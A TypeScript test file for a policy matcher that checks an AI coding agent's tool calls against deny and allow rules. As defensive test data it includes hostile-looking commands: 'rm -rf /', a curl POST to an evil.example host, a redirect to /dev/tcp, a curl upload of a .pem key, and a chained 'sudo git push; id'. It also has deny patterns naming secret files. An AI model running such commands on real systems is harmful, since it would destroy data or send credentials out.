import { describe, expect, test } from 'vitest'
import type { Effect } from '../../effect.ts'
import type { ToolCall } from '../../tool-call.ts'
import { builtInPolicy } from '../built-in.ts'
import { deletes, editCall, effect, fakeCall, policyWith, reads, shellCall, writes } from '../fake-call.ts'
import { concerned, coveredByAllow, matchingAllow, matchingHardDeny, refusedRules } from './match.ts'

const sql = (text: string) =>
  fakeCall({
    tool: 'mcp__db__query',
    action: { kind: 'mcp', server: 'db', tool: 'query' },
    input: { sql: text },
    effects: [effect('database', 'write')],
  })
const toolOfServer = (server: string, tool: string, does: Effect = effect('publish', 'comment', server)) =>
  fakeCall({
    tool: `mcp__${server}__${tool}`,
    action: { kind: 'mcp', server, tool },
    effects: [does],
  })
const fetchOf = (host: string) =>
  fakeCall({ tool: 'WebFetch', action: { kind: 'fetch', url: `https://${host}/` }, effects: [{ ...effect('connect', 'get', host), host }] })

describe('hard rules that are patterns', () => {
  test.each<[string, string, ToolCall, boolean]>([
    ['a command', 'git push --force', shellCall('git push --force origin main'), true],
    ['option behind the operands', 'git push --force', shellCall('git push origin main --force'), true],
    ['the short spelling', 'git push --force', shellCall('git push -f'), true],
    ['in a bundle', 'git push --force', shellCall('git push -uf origin x'), true],
    ['global options before the subcommand', 'git push --force', shellCall('git -C /w/app push --force'), true],
    ['without the option', 'git push --force', shellCall('git push origin main'), false],
    ['another option with the same start', 'git push --force', shellCall('git push --force-with-lease'), false],
    ['a plus for the option', 'git push --force', shellCall('git push origin +main'), true],
    ['another subcommand', 'git push', shellCall('git stash push'), false],
    ['a word of a message', 'git push', shellCall('git commit -m push'), false],
    ['another program with the same start', 'rm -rf', shellCall('rmdir -rf x'), false],
    ['letters in another order', 'rm -rf', shellCall('rm -fvr x'), true],
    ['a script given to its interpreter', './scripts/wipe.sh', shellCall('bash scripts/wipe.sh'), true],
    ['a program and its like', 'docker*', shellCall('docker-compose up'), true],
    ['a star for a file', 'python scripts/*', shellCall('pytest -q'), false],
    ['a file for the star', 'python scripts/*', shellCall('python3 scripts/a.py'), true],
    ['a short option', 'cargo build --release', shellCall('cargo build -r'), true],
    ['a file in another spelling', 'rm -rf dist', shellCall('rm -fr ./dist/'), true],
    ['one file of many', 'rm -rf dist', shellCall('rm -rf a b dist'), true],
    ['another file', 'rm -rf dist', shellCall('rm -rf a b distant'), false],
    ['a newer name', 'git checkout -b', shellCall('git switch -c x'), true],
    ['a newer name for something else', 'git checkout -b', shellCall('git switch x'), false],
    ['a program by its family', 'rustfmt', shellCall('cargo fmt'), true],
    ['long spellings', 'rm -rf', shellCall('rm --recursive --force x'), true],
    ['one of two options', 'rm -rf', shellCall('rm -f x'), false],
    ['by its path', 'terraform destroy', shellCall('/usr/local/bin/terraform destroy'), true],
    ['behind others', 'terraform destroy', shellCall('cd infra && terraform destroy -auto-approve'), true],
    ['in the notation of Claude Code', 'Bash(terraform destroy:*)', shellCall('terraform destroy -target=x'), true],
    ['in that notation, with a colon in the word', 'Bash(npm run lint:*)', shellCall('npm run lint:fix'), true],
    ['in that notation, another word', 'Bash(npm run lint:*)', shellCall('npm run linter'), false],
    ['an option with its value', 'sed -i', shellCall('sed -i.bak s/a/b/ x'), true],
    ['an option spelled out', 'sed -i', shellCall('sed --in-place=.bak s/a/b/ x'), true],
    ['with a star in a word', 'Bash(npm run deploy*)', shellCall('npm run deploy:prod'), true],
    ['with words only known at run time', 'git push --force', shellCall('git push --force $REMOTE'), true],
    ['a script of the project', './scripts/wipe.sh', shellCall('scripts/wipe.sh --yes'), true],
    ['SQL in a shell command', 'DROP TABLE', shellCall('psql -c "drop   table users"', [effect('database', 'destroy')]), true],
    ['SQL with a comment in it', 'DROP TABLE', sql('DROP/* x */TABLE users'), true],
    ['SQL in lower case in the rule', 'drop table', sql('DROP TABLE users'), true],
    ['other SQL', 'DROP TABLE', sql('SELECT * FROM droptable'), false],
    ['a search for the text', 'DROP TABLE', shellCall('grep -rn "DROP TABLE" db', [reads('db')]), false],
    ['a folder in a change of all', 'legacy/', shellCall('black .', [{ ...effect('write', 'edit', '.'), path: '/w/app' }]), true],
    [
      'a folder elsewhere',
      'legacy/',
      shellCall('black src/legacy', [{ ...effect('write', 'edit', 'src/legacy'), path: '/w/app/src/legacy' }]),
      true,
    ],
    [
      'another folder than that of the change',
      'legacy/',
      shellCall('black src', [{ ...effect('write', 'edit', 'src'), path: '/w/app/src' }]),
      false,
    ],
    ['a tool', 'WebFetch', fetchOf('example.com'), true],
    ["another agent's tool of that kind", 'Bash', { ...shellCall('ls'), tool: 'run_shell_command' }, true],
    ['a tool whose name is also a program', 'bash', shellCall('ls'), false],
    ['a tool that is one way of doing it', 'Grep', fakeCall({ tool: 'Read', action: { kind: 'read', paths: ['a'] } }), false],
    ['a tool that starts agents', 'Task', fakeCall({ tool: 'spawn_agent', action: { kind: 'delegate', brief: 'x' } }), true],
    ['a tool of a server', 'mcp__db__query', sql('SELECT 1'), true],
    ['all tools of a server', 'mcp__db__*', sql('SELECT 1'), true],
    ['a server', 'mcp__db', sql('SELECT 1'), true],
    ['a server with the same start', 'mcp__d', sql('SELECT 1'), false],
    ['a host', 'WebFetch(domain:example.com)', fetchOf('docs.example.com'), true],
    ['another host', 'WebFetch(domain:example.com)', fetchOf('badexample.com'), false],
    ['what lies under a name', 'vendor', shellCall('cat vendor/a.txt', [reads('vendor/a.txt')]), true],
    ['what lies elsewhere', 'vendor', shellCall('cat src/a.txt', [reads('src/a.txt')]), false],
    ['a word that is a deed, no folder', 'deploy', shellCall('cat deploy/a.txt', [reads('deploy/a.txt')]), false],
    ['a host by its name, which could be a file', 'pastebin.com', fetchOf('pastebin.com'), true],
    ['such a name, as the file', 'pastebin.com', shellCall('cat pastebin.com', [reads('pastebin.com')]), true],
    ['a host by its name, which could be no file', 'api.evil.example', fetchOf('api.evil.example'), true],
    ['a host below it', 'evil.example', fetchOf('api.evil.example'), true],
    ['all hosts below one', '*.evil.example', fetchOf('api.evil.example'), true],
    ['the host above them', '*.evil.example', fetchOf('evil.example'), false],
    ['a host by its address', 'https://evil.example/', fetchOf('evil.example'), true],
    ['a host with its port', 'evil.example:8080', fetchOf('evil.example'), true],
    ['a host by its number', '10.0.0.5', fetchOf('10.0.0.5'), true],
    ['files that end alike are no hosts', '*.example', fetchOf('evil.example'), false],
    ['a file name anywhere', '.env', shellCall('cat packages/a/.env', [reads('packages/a/.env')]), true],
    ['a folder', 'secrets/**', editCall('secrets/a.txt'), true],
    ['a folder with a slash', 'secrets/', editCall('secrets/deep/a.txt'), true],
    ['another folder with the same start', 'secrets/', editCall('secrets-old/a.txt'), false],
    ['a glob', '*.pem', editCall('certs/site.pem'), true],
    ['another letter case', '.env', editCall('.ENV'), true],
    ['a folder above that is deleted', 'secrets/**', shellCall('rm -rf .', [deletes('.')]), false],
    ['the folder itself deleted', 'config/secrets/**', shellCall('rm -rf config', [deletes('config')]), true],
    ['a search of a folder above', 'config/secrets/**', shellCall('grep -r x config', [{ ...reads('config'), recursive: true }]), false],
    [
      'in the home',
      '~/.kube/config',
      shellCall('cat ~/.kube/config', [{ kind: 'read', target: '~/.kube/config', path: '/home/dev/.kube/config' }]),
      true,
    ],
    ['sent off', '*.pem', shellCall('curl -F x', [{ ...effect('send', 'upload', 'x'), carries: ['/w/app/site.pem'] }]), true],
    ['an edit rule on a read', 'Edit(docs/**)', shellCall('cat docs/a', [reads('docs/a')]), false],
    ['an edit rule on an edit', 'Edit(docs/**)', editCall('docs/a'), true],
    ['a script without its `run`', 'pnpm test', shellCall('pnpm run test'), true],
    ['a script with a `run`', 'yarn run build', shellCall('yarn build'), true],
    ['every script, not every command', 'npm run', shellCall('npm ls'), false],
    ['the short name of a subcommand', 'npm install', shellCall('npm i left-pad'), true],
    ['another name of the program', 'docker compose up', shellCall('docker-compose up'), true],
    ['a version in the name of the program', 'pip install', shellCall('pip3 install x'), true],
    ['the wrapper script of a project', 'gradle test', shellCall('./gradlew test'), true],
    ['a runner under another name', 'Bash(npx:*)', shellCall('npm exec vite build'), true],
    ['a script given to its interpreter', 'phpunit', shellCall('php vendor/bin/phpunit'), true],
    ['a script without its interpreter', 'Bash(php artisan:*)', shellCall('./artisan test'), true],
    ['all servers', 'mcp__*', sql('SELECT 1'), true],
    ['a star across words', 'Bash(*push*)', shellCall('git -C . push origin'), true],
    ['a star across other words', 'Bash(*push*)', shellCall('git pull'), false],
    ['a host in another letter case', 'WebFetch(domain:Example.com)', fetchOf('example.com'), true],
    ['a glob that may name files of a folder', 'secrets/**', shellCall('cat se*/a', [{ ...reads('se*/a'), glob: true }]), true],
    ['a glob that names a folder and nothing in it', 'secrets/**', shellCall('ls *', [{ ...reads('*'), glob: true }]), false],
    ['a glob elsewhere', 'secrets/**', shellCall('cat src/*', [{ ...reads('src/*'), glob: true }]), false],
    ['two globs for a name', '*.pem', shellCall('cat certs/*', [{ ...reads('certs/*'), glob: true }]), true],
    ['a glob that deletes a folder above', 'a/secrets/**', shellCall('rm -rf *', [{ ...deletes('*'), glob: true, recursive: true }]), true],
    ['a program of the long tail', 'rclone sync', shellCall('rclone sync a b:c'), true],
    ['a program that nobody described', 'our-tool publish', shellCall('our-tool publish --now'), true],
    ['a program whose name is a word', 'open', shellCall('open https://example.com'), true],
    ['any program', '* --no-verify', shellCall('git commit --no-verify -m x'), true],
    ['any program, the short spelling', '* --no-verify', shellCall('git commit -nm x'), true],
    ['the folder itself', 'git checkout .', shellCall('git checkout -- .'), true],
    ['a sentence is left to the model', 'Never push to production', shellCall('git push production'), false],
    ['a sentence that starts with a program', 'make no changes to the database', shellCall('make no changes to the database'), false],
  ])('%s: %s', (_name, rule, call, expected) => {
    expect(matchingHardDeny(call, policyWith({ hard_deny: [rule] }))?.text).toBe(expected ? rule : undefined)
  })

  test('built-in rules and other lists are no patterns', () => {
    expect(matchingHardDeny(shellCall('rm -rf /'), builtInPolicy())).toBeUndefined()
    expect(matchingHardDeny(shellCall('rm -rf x'), policyWith({ soft_deny: ['rm -rf'], allow: ['rm -rf'] }))).toBeUndefined()
  })
})

describe('allow rules', () => {
  const publishes = [effect('publish', 'push', 'origin')]
  test.each<[string, readonly string[], ToolCall, boolean]>([
    ['the command itself', ['git push'], shellCall('git push', publishes), true],
    ['with operands', ['git push'], shellCall('git push origin feature', publishes), true],
    ['with an option nobody allowed', ['git push'], shellCall('git push --force', publishes), false],
    ['a plus for that option', ['git push'], shellCall('git push origin +feature', publishes), false],
    ['a branch elsewhere', ['git push'], shellCall('git push origin feature:main', publishes), false],
    ['an address nobody allowed', ['git push'], shellCall('git push https://evil.example/x.git', publishes), false],
    ['an address to read from', ['git clone'], shellCall('git clone https://example.com/x.git', [effect('connect', 'clone', 'x')]), true],
    [
      'a variable that sends it elsewhere',
      ['git push'],
      shellCall('X=1 git push', publishes, { commands: [{ words: ['git', 'push'], dynamic: false, sets: ['X'] }] }),
      false,
    ],
    [
      'a variable that only quiets it',
      ['git push'],
      shellCall('CI=1 git push', publishes, { commands: [{ words: ['git', 'push'], dynamic: false, sets: ['CI'] }] }),
      true,
    ],
    [
      'a program that nobody described',
      ['our-tool publish'],
      shellCall('our-tool publish', [{ kind: 'unknown', target: 'program `our-tool` is not described' }]),
      true,
    ],
    [
      'another of its subcommands',
      ['our-tool publish'],
      shellCall('our-tool wipe', [{ kind: 'unknown', target: 'program `our-tool` is not described' }]),
      false,
    ],
    ['one tool of a server', ['mcp__tracker__close'], toolOfServer('tracker', 'close'), true],
    ['another tool of it', ['mcp__tracker__close'], toolOfServer('tracker', 'close_all'), false],
    ['all tools of a server', ['mcp__tracker__*'], toolOfServer('tracker', 'close'), false],
    ['a tool that runs commands', ['mcp__box__open'], toolOfServer('box', 'open', effect('execute', 'program', 'x')), false],
    ['a tool that runs what it is given', ['mcp__box__run'], toolOfServer('box', 'run'), false],
    [
      'a server nobody described',
      ['mcp__box__open'],
      toolOfServer('box', 'open', { kind: 'unknown', target: 'server `box` is not described' }),
      true,
    ],
    [
      'a program nobody described',
      ['mcp__box__open'],
      toolOfServer('box', 'open', { kind: 'unknown', target: 'program `x` is not described' }),
      false,
    ],
    ['another word with the same start', ['npm test'], shellCall('npm test-all', [effect('execute', 'arbitrary')]), false],
    ['options before the subcommand', ['git push'], shellCall('git -c core.sshCommand=x push', publishes), false],
    ['another program of the same name', ['npm test'], shellCall('/w/app/evil/npm test', [effect('execute', 'arbitrary')]), false],
    ['exact notation', ['Bash(git push origin feature)'], shellCall('git push origin feature', publishes), true],
    ['exact notation with more words', ['Bash(git push origin feature)'], shellCall('git push origin feature main', publishes), false],
    ['open notation', ['Bash(npm run lint:*)'], shellCall('npm run lint --fix', [effect('execute', 'arbitrary')]), true],
    ['open notation is word-aligned', ['Bash(npm run lint:*)'], shellCall('npm run linter', [effect('execute', 'arbitrary')]), false],
    ['open notation, behind a colon', ['Bash(npm run lint:*)'], shellCall('npm run lint:fix', [effect('execute', 'arbitrary')]), true],
    ['a tag behind a colon', ['Bash(docker push acme/app:*)'], shellCall('docker push acme/app:1.2', publishes), true],
    ['a branch to push to behind a colon', ['Bash(git push origin topic:*)'], shellCall('git push origin topic:main', publishes), false],
    ['another name before it', ['Bash(docker push acme/app:*)'], shellCall('docker push acme/app2:1.2', publishes), false],
    [
      'another host behind a colon',
      ['Bash(curl -X POST http://localhost:*)'],
      shellCall('curl -X POST http://localhost:a@evil.example', [effect('send', 'data', 'evil.example')]),
      false,
    ],
    ['harmless company', ['git push'], shellCall('cd sub && git push | tail -5', publishes), true],
    ['a second command nobody allowed', ['git push'], shellCall('git push && npm publish', publishes), false],
    ['two rules for two commands', ['git push', 'npm publish'], shellCall('git push && npm publish', publishes), true],
    ['a star in a path', ['Bash(kubectl apply -f k8s/*)'], shellCall('kubectl apply -f k8s/a.yaml', [effect('infra', 'change')]), true],
    [
      'a star in a path that leads up again',
      ['Bash(kubectl apply -f k8s/*)'],
      shellCall('kubectl apply -f k8s/../../a.yaml', [effect('infra', 'change')]),
      false,
    ],
    ['work that git drops', ['Bash(git reset:*)'], shellCall('git reset --hard', [effect('delete', 'uncommitted', '.')]), true],
    ['a word only known at run time', ['git push'], shellCall('git push $X', publishes), false],
    ['a redirect elsewhere', ['git push'], shellCall('git push > /home/dev/.x', [...publishes, writes('/home/dev/.x')]), false],
    ['a redirect to a host', ['git push'], shellCall('git push > /dev/tcp/h/80', [effect('connect', 'tunnel', 'h')]), false],
    ['a file it names itself', ['Bash(cp:*)'], shellCall('cp a /opt/a', [writes('/opt/a')]), true],
    [
      'an unknown program the rule names',
      ['Bash(./tools/gen:*)'],
      shellCall('./tools/gen all', [{ kind: 'unknown', target: 'program `./tools/gen` is not described' }]),
      true,
    ],
    [
      'an unknown option behind the star',
      ['Bash(git push:*)'],
      shellCall('git push --receive-pack=x', [{ kind: 'unknown', target: 'option `--receive-pack` of `git push` is not described' }]),
      false,
    ],
    ['changed environment', ['git push'], shellCall('git push', [{ kind: 'unknown', target: '`PATH` changes what runs' }]), false],
    [
      'an analysis that failed',
      ['git push'],
      shellCall('git push', [{ kind: 'unknown', target: 'the command is too long to follow' }]),
      false,
    ],
    ['a wrapper whose inner command is not listed', ['git push'], shellCall('timeout 5 npm publish && git push', publishes), false],
    ['any statement of a database', ['psql -c'], shellCall('psql -c "delete from users"', [effect('database', 'write')]), false],
    ['a wrapper nobody may allow', ['sudo git push'], shellCall('sudo git push origin', publishes), false],
    [
      'the line that a rule spells out, whatever it does',
      ['sudo git push'],
      shellCall('sudo git push', [effect('privilege', 'sudo')]),
      true,
    ],
    ['the line as `Bash(…)`', ['Bash(sudo git push)'], shellCall(' sudo git push ', [effect('privilege', 'sudo')]), true],
    ['the line and one command more', ['sudo git push'], shellCall('sudo git push; id', [effect('privilege', 'sudo')]), false],
    ['a line with a star is a pattern', ['sudo git *'], shellCall('sudo git *', [effect('privilege', 'sudo')]), false],
    [
      'a line with a word only known at run time',
      ['rm -rf $D'],
      shellCall('rm -rf $D', [effect('delete', 'work')], { commands: [{ words: ['rm', '-rf', '$D'], dynamic: true }] }),
      false,
    ],
    [
      'a command whose option says where it runs',
      ['git -C docs push'],
      shellCall('git -C docs push && ls', publishes, {
        commands: [
          { words: ['git', '-C', 'docs', 'push'], dynamic: false },
          { words: ['git', 'push'], written: ['git', '-C', 'docs', 'push'], dynamic: false },
          { words: ['ls'], dynamic: false },
        ],
      }),
      true,
    ],
    [
      'the same command somewhere else',
      ['git -C docs push'],
      shellCall('git -C docs push && git push', publishes, {
        commands: [
          { words: ['git', '-C', 'docs', 'push'], dynamic: false },
          { words: ['git', 'push'], written: ['git', '-C', 'docs', 'push'], dynamic: false },
          { words: ['git', 'push'], dynamic: false },
        ],
      }),
      false,
    ],
    [
      'what a command that is spelled out hands on',
      ['docker compose exec db pg_restore x'],
      shellCall('docker compose exec db pg_restore x | tail', [effect('database', 'write')], {
        commands: [
          { words: ['docker', 'compose', 'exec', 'db', 'pg_restore', 'x'], dynamic: false },
          { words: ['pg_restore', 'x'], inside: true, dynamic: false },
          { words: ['tail'], dynamic: false },
        ],
      }),
      true,
    ],
    [
      'the same command beside it',
      ['docker compose exec db pg_restore x'],
      shellCall('docker compose exec db pg_restore x; pg_restore x', [effect('database', 'write')], {
        commands: [
          { words: ['docker', 'compose', 'exec', 'db', 'pg_restore', 'x'], dynamic: false },
          { words: ['pg_restore', 'x'], dynamic: false },
        ],
      }),
      false,
    ],
    ['a setting that the command makes', ['git remote add'], shellCall('git remote add up h', [effect('config', 'remote', 'up')]), true],
    ['a check that something else may switch off', ['git push'], shellCall('git push | tail', [effect('config', 'skip-checks')]), false],
    [
      'what a runner hands on, if the rule spells it out',
      ['Bash(uv run alembic upgrade:*)'],
      shellCall('uv run alembic upgrade head', [effect('database', 'migrate')], {
        commands: [
          { words: ['uv', 'run', 'alembic', 'upgrade', 'head'], dynamic: false },
          { words: ['alembic', 'upgrade', 'head'], inside: true, dynamic: false },
        ],
      }),
      true,
    ],
    [
      'any code that a runner hands on',
      ['Bash(uv run python:*)'],
      shellCall('uv run python -c x', [effect('execute', 'arbitrary')], {
        commands: [
          { words: ['uv', 'run', 'python', '-c', 'x'], dynamic: false },
          { words: ['python', '-c', 'x'], dynamic: false },
        ],
      }),
      false,
    ],
    [
      'a program called as the last word of an allowed one',
      ['Bash(python manage.py migrate:*)'],
      shellCall('python manage.py migrate && migrate', [effect('database', 'migrate')], {
        commands: [
          { words: ['python', 'manage.py', 'migrate'], dynamic: false },
          { words: ['django-admin', 'migrate'], dynamic: false },
          { words: ['migrate'], dynamic: false },
        ],
      }),
      false,
    ],
    [
      'another package than the rule spells out',
      ['pnpm add zod'],
      shellCall('pnpm add zod left-pad', [effect('install', 'named', 'zod'), effect('install', 'named', 'left-pad')]),
      false,
    ],
    ['the package it spells out', ['pnpm add zod'], shellCall('pnpm add zod', [effect('install', 'named', 'zod')]), true],
    ['a sentence', ['Pushing to feature branches is fine'], shellCall('git push', publishes), false],
    ['an unknown field', ['git push'], shellCall('git push', publishes, { unknownFields: ['x'] }), false],
  ])('%s', (_name, rules, call, expected) => {
    expect(matchingAllow(call, policyWith({ allow: rules })) !== undefined).toBe(expected)
  })

  test('what a looked-through file runs belongs to the command that runs it; a function of the line does not', () => {
    const call = (via: string) =>
      shellCall('cd . && make ship', [{ ...effect('publish', 'push', 'origin'), via: [via] }], {
        commands: [
          { words: ['make', 'ship'], dynamic: false },
          { words: ['scp', 'x', 'h:'], dynamic: false, via: [via] },
        ],
      })
    expect(matchingAllow(call('make ship'), policyWith({ allow: ['make ship'] }))?.text).toBe('make ship')
    expect(matchingAllow(call('function make'), policyWith({ allow: ['make ship'] }))).toBeUndefined()
    expect(matchingAllow(call('alias make'), policyWith({ allow: ['make ship'] }))).toBeUndefined()
  })

  test('only the unsettled effects have to be covered', () => {
    const call = shellCall('git push > out.log', [writes('out.log'), effect('publish', 'push', 'origin')])
    expect(matchingAllow(call, policyWith({ allow: ['git push'] }))).toBeUndefined()
    expect(matchingAllow(call, policyWith({ allow: ['git push'] }), [effect('publish', 'push', 'origin')])?.text).toBe('git push')
  })

  test.each([
    ['*'],
    ['Bash'],
    ['Bash(*)'],
    ['Bash(:*)'],
    ['python'],
    ['Bash(python:*)'],
    ['Bash(python3 -c:*)'],
    ['Bash(node -e *)'],
    ['Bash(bash:*)'],
    ['bash -c'],
    ['npx'],
    ['Bash(npx:*)'],
    ['Bash(uv run:*)'],
    ['Bash(npm exec:*)'],
    ['Bash(docker run:*)'],
    ['Bash(kubectl exec:*)'],
    ['Bash(sudo:*)'],
    ['sudo apt install x'],
    ['Bash(xargs:*)'],
    ['Bash(env:*)'],
    ['Bash(ssh:*)'],
    ['Bash(git:*)'],
    ['Bash(npm:*)'],
    ['Bash(find:*)'],
    ['Bash(git push:* && rm)'],
  ])('too broad: %s', (rule) => {
    const policy = policyWith({ allow: [rule] })
    expect(refusedRules(policy).map((refused) => refused.rule.text)).toEqual([rule])
    expect(matchingAllow(shellCall('python -c x', [effect('execute', 'arbitrary')]), policy)).toBeUndefined()
  })

  test.each([
    ['npm test'],
    ['Bash(npm run lint:*)'],
    ['Bash(python scripts/gen.py:*)'],
    ['Bash(python -m pytest:*)'],
    ['Bash(npx vitest:*)'],
    ['Bash(git push:*)'],
    ['git status'],
    ['Bash(make:build)'],
    ['Please be quick'],
  ])('not too broad: %s', (rule) => {
    expect(refusedRules(policyWith({ allow: [rule] }))).toEqual([])
  })

  test('covered means by which rule', () => {
    const policy = policyWith({ allow: ['npm test', { rule: 'Bash(make:*)', id: 'make-all' }, 'Bash(make lint:*)'] })
    expect(coveredByAllow({ words: ['make', 'lint', '-j'], dynamic: false }, policy)?.text).toBe('Bash(make lint:*)')
    expect(coveredByAllow({ words: ['npm', 'test'], dynamic: true }, policy)).toBeUndefined()
  })
})

describe('rules that may concern a call', () => {
  const calls: Readonly<Record<string, ToolCall>> = {
    edit: editCall('src/app.ts'),
    schema: editCall('prisma/schema.prisma'),
    test: shellCall('npm test', [effect('execute', 'project', 'vitest')]),
    testProd: shellCall('npm run test:prod', [effect('execute', 'project', 'vitest')]),
    build: shellCall('npm run build', [effect('execute', 'project', 'tsc')]),
    dev: shellCall('npm run dev', [effect('execute', 'project', 'vite')]),
    status: shellCall('git status', [reads('.')]),
    stash: shellCall('git stash push', [effect('write', 'stash', '.git')]),
    push: shellCall('git push', [effect('publish', 'push', 'origin')]),
    plan: shellCall('terraform plan', [effect('infra', 'dry-run', '.')]),
    docker: shellCall('docker compose up', [effect('infra', 'container', '.')]),
    get: shellCall('curl -s https://example.com', [effect('connect', 'get', 'https://example.com')]),
    issue: fakeCall({
      tool: 'mcp__github__get_issue',
      action: { kind: 'mcp', server: 'github', tool: 'get_issue' },
      effects: [effect('connect', 'get', 'github')],
    }),
    look: shellCall('cat src/app.ts', [reads('src/app.ts')]),
    rails: shellCall('bin/rails db:migrate:status', [effect('database', 'read')]),
  }
  const gated = (rule: Parameters<typeof policyWith>[0]) =>
    Object.entries(calls).flatMap(([name, call]) => (concerned(call, policyWith(rule)).length > 0 ? [name] : []))

  test.each<[string, readonly string[]]>([
    ['terraform', ['plan']],
    ['npm run build', ['build']],
    ['Never run docker commands here', ['docker']],
    ['Do not run the test suite', ['test', 'testProd']],
    ['Never run tests against prod', ['testProd']],
    ['Never edit files under prisma/, the database team owns the schema', ['schema']],
    ['Ask me before any git command that changes something', ['stash', 'push']],
    ['prisma/ is owned by the database team: do not edit', ['schema']],
    ['prisma/ belongs to the design system team; agents do not edit it', ['schema']],
    ['No network access', ['push', 'get', 'issue']],
    ['Do not use the GitHub MCP server', ['issue']],
    ['Never run any bin/rails db: command without asking, not even status', ['rails']],
    ['Use pnpm, never npm', ['test', 'testProd', 'build', 'dev']],
    ['The test suite costs money per run, leave it alone', ['test', 'testProd']],
    ['Schemas are written by hand by the data team, never generate or edit them', ['schema', 'rails']],
    ['Never force push', []],
    ['Never run ./gradlew publish', []],
    ['Dev servers: port 3000 belongs to the demo', ['dev', 'docker']],
    ['Do not modify anything', ['edit', 'schema', 'stash', 'push', 'docker']],
    ['Respect the freeze', ['edit', 'schema', 'test', 'testProd', 'build', 'dev', 'stash', 'push', 'docker', 'get', 'issue']],
    ['きまりを守る', ['edit', 'schema', 'test', 'testProd', 'build', 'dev', 'stash', 'push', 'docker', 'get', 'issue']],
  ])('%s', (rule, expected) => {
    expect(gated({ soft_deny: [rule] }).sort()).toEqual([...expected].sort())
  })

  test('a rule about new things of a kind is about every new file', () => {
    const policy = policyWith({ soft_deny: ['Ask before you create new components'] })
    const action = { kind: 'edit', changes: [{ change: 'create', path: '/w/app/src/card.ts' }] } as const
    expect(concerned(fakeCall({ tool: 'Write', action, effects: [effect('write', 'create', 'src/card.ts')] }), policy)).toHaveLength(1)
  })

  test('an example that must be blocked is a pattern too', () => {
    expect(gated({ soft_deny: [{ rule: 'Keep docker quiet', id: 'x', blocks: ['npm run dev'] }] })).toEqual(['dev', 'docker'])
  })

  test('a hard rule that is a sentence gates as well; built-in rules, allow and environment do not', () => {
    expect(gated({ hard_deny: ['Never start docker'] })).toEqual(['docker'])
    expect(gated({})).toEqual([])
    expect(gated({ allow: ['Never start docker'], environment: ['docker is down'] })).toEqual([])
  })

  test('says the rule and why', () => {
    expect(concerned(calls.docker as ToolCall, policyWith({ soft_deny: ['Never start docker'] }))).toMatchObject([
      { rule: { id: 'never-start-docker', source: 'call' }, because: 'it runs `docker`' },
    ])
  })
})
